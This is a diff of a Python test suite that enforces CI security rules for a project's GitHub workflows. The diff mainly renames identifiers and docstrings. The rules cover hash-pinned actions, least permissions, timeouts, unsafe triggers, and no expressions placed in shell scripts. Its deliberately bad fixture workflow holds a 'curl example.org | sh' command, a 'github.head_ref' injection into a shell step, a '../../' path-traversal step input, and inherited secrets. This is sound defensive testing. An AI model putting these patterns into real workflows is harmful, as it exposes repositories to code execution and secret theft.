@@ -1,6 +1,6 @@
-"""What the public workflows may do: the steps of CI, least rights, pinned actions, no stranger's text in a shell.
+"""Rules for the public workflows: the scripts of CI, least permissions, pinned actions, no untrusted text in shells.
 
-A made-up workflow that offends against all of it must be found guilty.
+A made-up workflow that violates all of these rules must be reported.
 """
 
 from __future__ import annotations
@@ -17,8 +17,8 @@ from studydeck.cli.main import main
 
 ROOT = Path(__file__).parents[2]
 CI = ROOT / ".ci"
-# What each job may do beyond nothing.
-RIGHTS: Mapping[str, Mapping[str, str]] = {
+# The permissions of each job.
+PERMISSIONS: Mapping[str, Mapping[str, str]] = {
     "ci.check": {"contents": "read"},
     "cards.deck": {"contents": "write", "id-token": "write", "attestations": "write", "pages": "write"},
     "deck.report": {"contents": "read"},
@@ -29,108 +29,108 @@ RIGHTS: Mapping[str, Mapping[str, str]] = {
     "deck.pages": {"pages": "write", "id-token": "write"},
 }
 TOOL = "./tool"
-# With these, a stranger's pull request runs with the rights and secrets of the repository.
-STRANGERS = {"pull_request_target", "workflow_run", "issue_comment", "issues"}
+# With these triggers, code from a fork runs with the permissions and secrets of the repository.
+UNSAFE_TRIGGERS = {"pull_request_target", "workflow_run", "issue_comment", "issues"}
 CALL = re.compile(r'"?(?:tool/|\$GITHUB_ACTION_PATH/)?\.ci/(run|(?:steps|deck)/[\w$-]+)"?')
 PINNED = re.compile(r"[\w-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
-ON: Any = True  # YAML reads the key `on` as a truth
+ON: Any = True  # YAML reads the key `on` as true
 
 Texts = Mapping[str, str]
 
 
 def workflows() -> dict[str, str]:
-    """Read the workflows by their names."""
-    found = {path.stem: path.read_text("utf-8") for path in (ROOT / ".github" / "workflows").iterdir()}
-    assert set(found) >= {"ci", "cards", "deck"}
-    return found
+    """Return the workflow texts by name."""
+    texts = {path.stem: path.read_text("utf-8") for path in (ROOT / ".github" / "workflows").iterdir()}
+    assert set(texts) >= {"ci", "cards", "deck"}
+    return texts
 
 
 def action() -> str:
-    """Read the action."""
+    """Return the text of action.yml."""
     return (ROOT / "action.yml").read_text("utf-8")
 
 
 def jobs(texts: Texts) -> Iterator[tuple[str, dict[str, Any]]]:
-    """Give every job under the name of its workflow and its own."""
+    """Yield every job as `<workflow>.<job>`."""
     for name, text in texts.items():
         for key, job in yaml.safe_load(text)["jobs"].items():
             yield f"{name}.{key}", job
 
 
 def steps(texts: Texts) -> Iterator[tuple[str, dict[str, Any]]]:
-    """Give every step of every job."""
+    """Yield every step of every job."""
     for name, job in jobs(texts):
         for step in job.get("steps", ()):
             yield name, step
 
 
-def runs_too() -> set[str]:
-    """Give the scripts that `.ci/run` runs, itself or through one that it runs."""
-    reached, waiting = {"run"}, ["run"]
-    while waiting:
-        lines = (CI / waiting.pop()).read_text("utf-8").splitlines()
+def scripts_run_by_ci() -> set[str]:
+    """Return the scripts that `.ci/run` runs, directly or through another script."""
+    reachable, pending = {"run"}, ["run"]
+    while pending:
+        lines = (CI / pending.pop()).read_text("utf-8").splitlines()
         called = {
-            f"{found[1]}/{found[2]}"
+            f"{match[1]}/{match[2]}"
             for line in lines
-            if (found := re.match(r'\s*(?:PATH=\S+ )?"?(?:\.ci|\$here)/(steps|deck)/([\w-]+)', line))
+            if (match := re.match(r'\s*(?:PATH=\S+ )?"?(?:\.ci|\$here)/(steps|deck)/([\w-]+)', line))
         }
-        waiting += sorted(called - reached)
-        reached |= called
-    return reached
+        pending += sorted(called - reachable)
+        reachable |= called
+    return reachable
 
 
-def strange_commands(texts: Texts, known: set[str]) -> Iterator[str]:
-    """Find commands, and steps of the action, that CI does not run."""
+def unknown_commands(texts: Texts, known_scripts: set[str]) -> Iterator[str]:
+    """Yield commands, and steps of the action, that CI does not run."""
     for name, step in steps(texts):
         if "run" in step:
-            found = CALL.fullmatch(step["run"].strip())
-            if not found or found[1] not in known:
+            match = CALL.fullmatch(step["run"].strip())
+            if not match or match[1] not in known_scripts:
                 yield f"{name} runs {step['run'].strip()}"
-        if step.get("uses") == TOOL and f"deck/{step.get('with', {}).get('step')}" not in known:
+        if step.get("uses") == TOOL and f"deck/{step.get('with', {}).get('step')}" not in known_scripts:
             yield f"{name} takes the step {step.get('with', {}).get('step')}"
 
 
-def spliced(texts: Texts) -> Iterator[str]:
-    """Find scripts into which an expression is written; text goes to a script by its environment only."""
+def inserted_expressions(texts: Texts) -> Iterator[str]:
+    """Yield scripts that contain an expression; values must be passed by the environment."""
     for name, step in steps(texts):
         if "${{" in step.get("run", ""):
-            yield f"{name} splices into {step['run'].strip()}"
+            yield f"{name} inserts an expression into {step['run'].strip()}"
 
 
-def loose(texts: Texts) -> Iterator[str]:
-    """Find actions that are not pinned by a hash with its version, or by two."""
+def unpinned_actions(texts: Texts) -> Iterator[str]:
+    """Yield actions that are not pinned by a hash and a version comment, or by two different hashes."""
     pins: dict[str, str] = {}
     for name, text in texts.items():
-        for used in re.findall(r"uses: *(.+?) *$", text, re.MULTILINE):
-            if used.startswith("./"):
+        for reference in re.findall(r"uses: *(.+?) *$", text, re.MULTILINE):
+            if reference.startswith("./"):
                 continue
-            if not PINNED.fullmatch(used):
-                yield f"{name} uses {used}"
-            elif pins.setdefault(used.split("@")[0], used) != used:
-                yield f"{name} uses another {used.split('@')[0]}"
+            if not PINNED.fullmatch(reference):
+                yield f"{name} uses {reference}"
+            elif pins.setdefault(reference.split("@")[0], reference) != reference:
+                yield f"{name} uses another {reference.split('@')[0]}"
 
 
-def overreaching(texts: Texts, rights: Mapping[str, Mapping[str, str]]) -> Iterator[str]:
-    """Find rights that nobody needs, credentials that stay behind, jobs without an end, and strangers' triggers."""
+def excess_permissions(texts: Texts, permissions: Mapping[str, Mapping[str, str]]) -> Iterator[str]:
+    """Yield excess permissions, persisted credentials, jobs without a timeout, and unsafe triggers."""
     for name, text in texts.items():
         workflow = yaml.safe_load(text)
         if workflow.get("permissions") != {}:
-            yield f"{name} has rights"
-        yield from (f"{name} runs on {one}" for one in sorted(STRANGERS & set(workflow[ON])))
+            yield f"{name} has permissions"
+        yield from (f"{name} runs on {trigger}" for trigger in sorted(UNSAFE_TRIGGERS & set(workflow[ON])))
     for name, job in jobs(texts):
-        if job.get("permissions") != rights.get(name, {}):
-            yield f"{name} has other rights"
+        if job.get("permissions") != permissions.get(name, {}):
+            yield f"{name} has other permissions"
         if "steps" in job and "timeout-minutes" not in job:
-            yield f"{name} has no end"
+            yield f"{name} has no timeout"
         if "secrets" in job:
-            yield f"{name} hands out secrets"
+            yield f"{name} passes secrets"
     for name, step in steps(texts):
         if (
             step.get("uses", "").startswith("actions/checkout@")
             and step.get("with", {}).get("persist-credentials") is not False
         ):
             yield f"{name} keeps credentials"
-        if step.get("uses") == TOOL and "write" in rights.get(name, {}).values():
+        if step.get("uses") == TOOL and "write" in permissions.get(name, {}).values():
             yield f"{name} installs packages where it may write"
 
 
@@ -138,80 +138,80 @@ def test_ci_runs_every_step() -> None:
     """Every script of .ci is run by .ci/run."""
     written = {path.relative_to(CI).as_posix() for folder in ("steps", "deck") for path in (CI / folder).iterdir()}
     assert len(written) > 10
-    assert written == runs_too() - {"run"}
+    assert written == scripts_run_by_ci() - {"run"}
 
 
-def test_every_command_of_a_workflow_is_one_that_ci_runs() -> None:
-    """A workflow says nothing in shell but the name of a script that CI runs as well."""
+def test_every_command_of_a_workflow_is_run_by_ci() -> None:
+    """A workflow's shell command is only the name of a script that CI also runs."""
     assert sum("run" in step for _, step in steps(workflows())) >= 3
-    assert list(strange_commands(workflows(), runs_too())) == []
+    assert list(unknown_commands(workflows(), scripts_run_by_ci())) == []
 
 
-def test_every_command_of_the_action_is_one_that_ci_runs() -> None:
-    """The action installs by the step of CI, and then takes the step that it is asked for, one of those in .ci/deck."""
-    made = yaml.safe_load(action())
-    assert [step["run"] for step in made["runs"]["steps"] if "run" in step] == [
+def test_every_command_of_the_action_is_run_by_ci() -> None:
+    """The action installs with the script of CI, and then runs the requested script of .ci/deck."""
+    definition = yaml.safe_load(action())
+    assert [step["run"] for step in definition["runs"]["steps"] if "run" in step] == [
         '"$GITHUB_ACTION_PATH/.ci/steps/environment"',
         '"$GITHUB_ACTION_PATH/.ci/deck/$STEP"',
     ]
-    named = re.findall(r"\w+", made["inputs"]["step"]["description"].split(";")[0].removeprefix("One of "))
-    assert sorted(named) == sorted(path.name for path in (CI / "deck").iterdir())
-    assert made["inputs"]["step"]["default"] in named
+    described = re.findall(r"\w+", definition["inputs"]["step"]["description"].split(";")[0].removeprefix("One of "))
+    assert sorted(described) == sorted(path.name for path in (CI / "deck").iterdir())
+    assert definition["inputs"]["step"]["default"] in described
 
 
-def test_the_action_takes_what_it_is_handed() -> None:
-    """No workflow hands the action an input that it does not have."""
+def test_workflows_pass_only_known_inputs_to_the_action() -> None:
+    """No workflow passes an input that the action does not define."""
     inputs = set(yaml.safe_load(action())["inputs"])
-    handed = [set(step["with"]) for _, step in steps(workflows()) if step.get("uses") == TOOL]
-    assert len(handed) >= 4
-    assert all(one <= inputs for one in handed)
+    passed = [set(step["with"]) for _, step in steps(workflows()) if step.get("uses") == TOOL]
+    assert len(passed) >= 4
+    assert all(names <= inputs for names in passed)
 
 
-def test_no_text_is_written_into_a_script() -> None:
-    """Branches, titles and tags reach a script by its environment only."""
+def test_no_expression_is_inserted_into_a_script() -> None:
+    """Branches, titles and tags are passed to a script by its environment only."""
     assert "${{" in workflows()["deck"]
-    assert list(spliced(workflows())) == []
+    assert list(inserted_expressions(workflows())) == []
     assert not any("${{" in step.get("run", "") for step in yaml.safe_load(action())["runs"]["steps"])
 
 
 def test_actions_are_pinned() -> None:
-    """Every action is named by a hash, with its version beside it, and everywhere by the same."""
-    assert list(loose(workflows() | {"action": action()})) == []
+    """Every action is pinned by one hash, with its version in a comment."""
+    assert list(unpinned_actions(workflows() | {"action": action()})) == []
 
 
-def test_rights_are_the_least() -> None:
-    """A workflow has no rights; a job has those of the table, and where it may write it installs nothing."""
-    assert {name for name, _ in jobs(workflows())} == set(RIGHTS)
-    assert list(overreaching(workflows(), RIGHTS)) == []
+def test_permissions_are_minimal() -> None:
+    """A workflow has no permissions; a job has those of the table, and installs nothing if it may write."""
+    assert {name for name, _ in jobs(workflows())} == set(PERMISSIONS)
+    assert list(excess_permissions(workflows(), PERMISSIONS)) == []
 
 
-def test_a_release_goes_through_every_gate() -> None:
-    """Nothing is published that was not rehearsed, reproduced on two systems and two Pythons, and attested."""
-    made = dict(jobs(workflows()))
-    assert [step["with"]["step"] for step in made["deck.build"]["steps"] if step.get("uses") == TOOL] == [
+def test_a_release_runs_all_checks_first() -> None:
+    """A release is published only after rehearsal, reproduction on two systems and two Pythons, and attestation."""
+    definitions = dict(jobs(workflows()))
+    assert [step["with"]["step"] for step in definitions["deck.build"]["steps"] if step.get("uses") == TOOL] == [
         "publishable",
         "rehearse",
     ]
-    needs = {name.removeprefix("deck."): job["needs"] for name, job in made.items() if "needs" in job}
+    needs = {name.removeprefix("deck."): job["needs"] for name, job in definitions.items() if "needs" in job}
     assert needs == {"reproduce": "build", "attest": "reproduce", "publish": "attest", "pages": "publish"}
-    matrix = made["deck.reproduce"]["strategy"]["matrix"]
+    matrix = definitions["deck.reproduce"]["strategy"]["matrix"]
     assert len({system.split("-")[0] for system in matrix["system"]}) >= 2
     assert len(set(matrix["python"])) >= 2
-    assert made["deck.build"]["if"] == "github.ref_type == 'tag'"
+    assert definitions["deck.build"]["if"] == "github.ref_type == 'tag'"
 
 
-def test_the_guide_shows_our_own_lines() -> None:
-    """What the guide tells others to write is what this repository runs, but for the address: ten lines at most."""
+def test_the_guide_shows_the_workflow_of_this_repository() -> None:
+    """The workflow in the guide is that of this repository except for the address, and at most ten lines long."""
     guide = (ROOT / "docs" / "guide.md").read_text("utf-8")
-    shown = guide.split("```yaml .github/workflows/cards.yml\n")[1].split("```")[0]
-    ours = workflows()["cards"]
-    assert len(shown.splitlines()) <= 10
-    theirs = re.sub(r"uses: OWNER/studydeck/(\S+)@COMMIT.*", r"uses: ./\1", shown)
-    assert theirs == ours
+    example = guide.split("```yaml .github/workflows/cards.yml\n")[1].split("```")[0]
+    actual = workflows()["cards"]
+    assert len(example.splitlines()) <= 10
+    adapted = re.sub(r"uses: OWNER/studydeck/(\S+)@COMMIT.*", r"uses: ./\1", example)
+    assert adapted == actual
 
 
-def test_the_hooks_call_commands() -> None:
-    """Each hook runs a command of the program, on notes, settings and pictures."""
+def test_the_hooks_run_existing_commands() -> None:
+    """Each pre-commit hook runs a command of the program if notes, settings or pictures change."""
     hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
     assert [hook["id"] for hook in hooks] == ["studydeck-check", "studydeck-build"]
     for hook in hooks:
@@ -223,11 +223,11 @@ def test_the_hooks_call_commands() -> None:
         assert not re.search(hook["files"], "README.txt")
 
 
-GUILTY = """
+BAD_WORKFLOW = """
 on: [pull_request_target]
 permissions: {contents: write}
 jobs:
-  guilty:
+  bad:
     runs-on: ubuntu-24.04
     secrets: inherit
     permissions: {packages: write}
@@ -249,46 +249,46 @@ jobs:
 
 
 @pytest.mark.parametrize(
-    ("found", "expected"),
+    ("check", "expected"),
     [
         (
-            strange_commands,
+            unknown_commands,
             [
-                "guilty.guilty runs curl example.org | sh",
-                "guilty.guilty runs .ci/steps/lint && .ci/steps/nothing",
-                "guilty.guilty runs .ci/steps/nothing",
-                "guilty.guilty runs .ci/steps/lint ${{ github.head_ref }}",
-                "guilty.guilty takes the step ../../anything",
+                "bad.bad runs curl example.org | sh",
+                "bad.bad runs .ci/steps/lint && .ci/steps/nothing",
+                "bad.bad runs .ci/steps/nothing",
+                "bad.bad runs .ci/steps/lint ${{ github.head_ref }}",
+                "bad.bad takes the step ../../anything",
             ],
         ),
-        (spliced, ["guilty.guilty splices into .ci/steps/lint ${{ github.head_ref }}"]),
+        (inserted_expressions, ["bad.bad inserts an expression into .ci/steps/lint ${{ github.head_ref }}"]),
         (
-            loose,
+            unpinned_actions,
             [
-                "guilty uses actions/checkout@v6",
-                "guilty uses actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd",
-                "guilty uses another actions/checkout",
+                "bad uses actions/checkout@v6",
+                "bad uses actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd",
+                "bad uses another actions/checkout",
             ],
         ),
         (
-            overreaching,
+            excess_permissions,
             [
-                "guilty has rights",
-                "guilty runs on pull_request_target",
-                "guilty.guilty has other rights",
-                "guilty.guilty has no end",
-                "guilty.guilty hands out secrets",
-                "guilty.guilty keeps credentials",
-                "guilty.guilty keeps credentials",
-                "guilty.guilty installs packages where it may write",
+                "bad has permissions",
+                "bad runs on pull_request_target",
+                "bad.bad has other permissions",
+                "bad.bad has no timeout",
+                "bad.bad passes secrets",
+                "bad.bad keeps credentials",
+                "bad.bad keeps credentials",
+                "bad.bad installs packages where it may write",
             ],
         ),
     ],
 )
-def test_a_guilty_workflow_is_found_guilty_rejected(found: Any, expected: list[str]) -> None:
-    """The watchman sees a strange command, a spliced text, a loose pin, a right too many."""
-    more: dict[Any, tuple[Any, ...]] = {
-        strange_commands: (runs_too(),),
-        overreaching: ({"guilty.guilty": {"contents": "write"}},),
+def test_a_workflow_that_violates_the_rules_is_reported_rejected(check: Any, expected: list[str]) -> None:
+    """Unknown commands, inserted expressions, missing pins and excess permissions are reported."""
+    extra_arguments: dict[Any, tuple[Any, ...]] = {
+        unknown_commands: (scripts_run_by_ci(),),
+        excess_permissions: ({"bad.bad": {"contents": "write"}},),
     }
-    assert list(found({"guilty": GUILTY}, *more.get(found, ()))) == expected
+    assert list(check({"bad": BAD_WORKFLOW}, *extra_arguments.get(check, ()))) == expected
